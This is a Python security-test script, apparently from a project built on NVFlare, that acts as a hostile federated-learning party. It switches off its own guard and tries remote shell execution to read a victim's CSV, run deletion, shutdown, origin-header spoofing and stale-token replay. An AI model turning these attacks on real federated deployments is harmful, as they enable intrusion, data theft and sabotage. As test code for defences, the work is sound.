"""A party in a test that has its own certificate, no guard, and tries what NVFlare would do for it.

python attacker.py FOLDER GO REPORT

It begins once the file GO is there; what each attack got is written to REPORT as JSON.
"""

from __future__ import annotations

import json
import os
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from nvflare.apis.fl_constant import FLMetaKey
from nvflare.apis.shareable import Shareable
from nvflare.fuel.data_event.utils import get_scope_property
from nvflare.fuel.f3.cellnet.defs import CellChannel, CellChannelTopic, MessageHeaderKey
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import StreamHeaderKey
from nvflare.private.admin_defs import Message as AdminMessage
from nvflare.private.defs import CellMessageHeaderKeys, RequestHeader, SysCommandTopic, TrainingTopic

from vesica.engines.nvflare import guard
from vesica.engines.nvflare.kits import Kit
from vesica.engines.nvflare.line import Line
from vesica.engines.nvflare.note import NO_RUN, Note, State
from vesica.engines.nvflare.process import run_beside

VICTIM, ABSENT = "lab", "clinic"
SECONDS = 4.0  # that an answer may take


def main(kit: Kit, go: Path, report: Path) -> None:
    def program(line: Line) -> None:
        while not go.exists():
            time.sleep(0.05)
        got = attack_guest(line) if kit.is_host else attack_all(line, kit.name)
        report.write_text(json.dumps(got))

    setattr(guard, "install", lambda: None)  # noqa: B010
    setattr(guard, "check", lambda cell: None)  # noqa: B010
    run_beside(kit, program, arrive=120)


def attack_guest(line: Line) -> dict[str, Any]:
    return at_once(commands(line))


def attack_all(line: Line, me: str) -> dict[str, Any]:
    """What would end the victims comes last."""
    core = line._cell.core_cell
    questions = {f"server {what}": manager(core, "server", what) for what in ("process_info", "config_vars")}
    last = {**commands(line), "server stop_cell": manager(core, "server", "stop_cell")}
    first = {f"{VICTIM} process_info": manager(core, VICTIM, "process_info"), "sys.shell": last.pop("sys.shell")}
    got = at_once({**questions, **first})
    token = {
        CellMessageHeaderKeys.TOKEN: get_scope_property(me, FLMetaKey.AUTH_TOKEN),
        CellMessageHeaderKeys.TOKEN_SIGNATURE: get_scope_property(me, FLMetaKey.AUTH_TOKEN_SIGNATURE),
    }
    pretend(line, token)
    leaving = Message({CellMessageHeaderKeys.PROJECT_NAME: "vesica"}, Shareable())
    core.send_request(CellChannel.SERVER_MAIN, CellChannelTopic.Quit, "server", leaving, timeout=SECONDS)
    pretend(line, token)  # which is now an old one: NVFlare compares no name with it
    return {**got, **at_once(last)}


def commands(line: Line) -> dict[str, Callable[[], Any]]:
    """What NVFlare's client does for an administrator."""
    table = Path(sys.argv[1]).parent / VICTIM / f"{VICTIM}.csv"

    def ask(topic: str, body: str = "", headers: dict[str, str] | None = None) -> Callable[[], Any]:
        message = AdminMessage(topic, body)
        message.set_headers(headers or {})
        return lambda: answer_to(line._cell.core_cell, CellChannel.CLIENT_MAIN, topic, VICTIM, message)

    return {
        "sys.shell": ask(SysCommandTopic.SHELL, f"head -n 2 {table}"),
        "delete_run": ask(TrainingTopic.DELETE_RUN, headers={RequestHeader.JOB_ID: "runs"}),
        "shutdown": ask(TrainingTopic.SHUTDOWN),
    }


def manager(core: Any, target: str, topic: str) -> Callable[[], Any]:
    return lambda: answer_to(core, "_net_manager", topic, target, None)


def answer_to(core: Any, channel: str, topic: str, target: str, body: Any) -> str | None:
    reply = core.send_request(channel, topic, target, Message({}, body), timeout=SECONDS, optional=True)
    said = getattr(reply.payload, "body", reply.payload)
    code = reply.get_header(MessageHeaderKey.RETURN_CODE)
    return f"{code} {said}" if code == "ok" else None


def at_once(attacks: dict[str, Callable[[], Any]]) -> dict[str, Any]:
    got: dict[str, Any] = {}
    threads = [
        threading.Thread(target=lambda n=name, a=attack: got.update({n: a()})) for name, attack in attacks.items()
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return got


def pretend(line: Line, token: dict[str, str]) -> None:
    """Calls to the host as a guest that is not there, and to a guest as the host, in both ways a call can travel."""
    claims = {"server": ABSENT, VICTIM: "server"}

    def lie(message: Message) -> None:
        if "vesica" in (message.get_header(MessageHeaderKey.CHANNEL), message.get_header(StreamHeaderKey.CHANNEL)):
            message.add_headers(
                {**token, MessageHeaderKey.ORIGIN: claims[message.get_header(MessageHeaderKey.DESTINATION)]}
            )

    line._cell.core_cell.add_outgoing_request_filter("*", "*", lie)
    for target, claim in claims.items():
        note = Note(b"x" * 16 if claim == "server" else NO_RUN, State.RUNNING, life=b"attacker", number=1).pack()
        for cell in (line._cell, line._cell.core_cell):
            cell.send_request(
                channel="vesica", topic="note", target=target, request=Message({}, note), timeout=1.0, optional=True
            )


if __name__ == "__main__":
    main(Kit.open(Path(sys.argv[1])), Path(sys.argv[2]), Path(sys.argv[3]))
    os._exit(0)
